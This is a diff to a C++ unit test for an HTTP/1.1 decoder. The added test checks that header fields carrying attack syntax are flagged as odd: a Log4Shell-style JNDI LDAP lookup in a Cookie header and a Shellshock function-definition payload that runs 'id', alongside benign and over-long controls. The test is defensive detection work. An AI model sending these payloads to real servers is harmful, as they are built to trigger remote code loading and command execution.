@@ -41,6 +41,19 @@ TEST(Http1, TellsARequestWithItsResponse) {
   EXPECT_EQ(outcome.answer.used, (std::array{kRequest.size(), kResponse.size()}));
 }
 
+TEST(Http1, TellsAFieldThatHoldsWhatNoneIsFor) {
+  const Decoded lookup = decode(
+      "GET / HTTP/1.1\r\nHost: a\r\nUser-Agent: ${x}\r\nCookie: secret=1; a=${jndi:ldap://h/a}\r\n\r\n",
+      kResponse);
+  EXPECT_EQ(facts(lookup.handshake()).at("odd_field"), "Cookie: ${jndi:ldap://h/a}");
+  const Decoded shell = decode("GET / HTTP/1.1\r\nX-A: () { :;}; id\r\n\r\n", kResponse);
+  EXPECT_EQ(facts(shell.handshake()).at("odd_field"), "X-A: () { :;}; id");
+  const Decoded plain = decode("GET / HTTP/1.1\r\nPrice: $5\r\nX-A: f() { }\r\n\r\n", kResponse);
+  EXPECT_FALSE(facts(plain.handshake()).contains("odd_field"));
+  const Decoded longer = decode("GET / HTTP/1.1\r\nX-A: ${" + std::string(1000, 'a') + "\r\n\r\n", kResponse);
+  EXPECT_EQ(facts(longer.handshake()).at("odd_field").size(), 256 + std::string_view("X-A: ").size());
+}
+
 TEST(Http1, IsToldTheSameWhateverIsKnownOfIt) {
   expect_the_same_cut_everywhere(decode_http1, text(kRequest), text(kResponse));
 }
